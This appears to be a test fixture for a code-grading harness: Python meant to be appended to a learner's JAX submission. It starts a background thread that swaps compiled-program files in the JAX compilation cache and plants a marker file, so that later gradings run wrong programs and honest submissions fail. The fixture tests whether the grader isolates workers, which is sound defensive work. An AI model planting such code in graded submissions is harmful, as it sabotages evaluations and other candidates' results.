"""Hostile learner code: poison the JAX compilation cache this learner's worker is given.

Appended by tests/test_cache_attacks.py to a correct linear_regression_jax file. While the
grading runs, a background thread swaps the contents of the compiled programs that appear in
the worker's own compilation cache (each `*-cache` file gets another program's executable,
which JAX loads without complaint: checked by hand, a swapped `jit_add` entry computes a
subtraction), and leaves a marker file there. A later grading whose worker loads that folder
runs the wrong programs: an honest file fails. The grader must never give another file's
grading (another candidate, another submission) this learner's folder.
"""

import json as _poison_json
import os as _poison_os
import threading as _poison_threading
import time as _poison_time

import jax as _poison_jax

POISON_MARKER = "planted-by-an-earlier-learner"


def _poison_round(folder, done):
    """Rotate the contents of the compiled programs not poisoned yet; the names poisoned."""
    fresh = sorted(name for name in _poison_os.listdir(folder)
                   if name.endswith("-cache") and name not in done)
    if len(fresh) < 2:
        return []
    contents = []
    for name in fresh:
        with open(_poison_os.path.join(folder, name), "rb") as handle:
            contents.append(handle.read())
    for index, name in enumerate(fresh):
        with open(_poison_os.path.join(folder, name), "wb") as handle:
            handle.write(contents[(index + 1) % len(contents)])
    done.update(fresh)
    return fresh


def _poison_forever(folder):
    done = set()
    while True:
        try:
            _poison_round(folder, done)
        except OSError:
            pass
        _poison_time.sleep(0.3)


_poison_folder = _poison_jax.config.jax_compilation_cache_dir
_poison_state = {"own": _poison_folder, "marker": False}
if _poison_folder:
    try:
        with open(_poison_os.path.join(_poison_folder, POISON_MARKER), "w") as _handle:
            _handle.write("this learner was here\n")
        _poison_state["marker"] = True
    except OSError as _exc:
        _poison_state["error"] = type(_exc).__name__
    _poison_threading.Thread(target=_poison_forever, args=(_poison_folder,), daemon=True).start()
print("COMPILE_POISON " + _poison_json.dumps(_poison_state), flush=True)
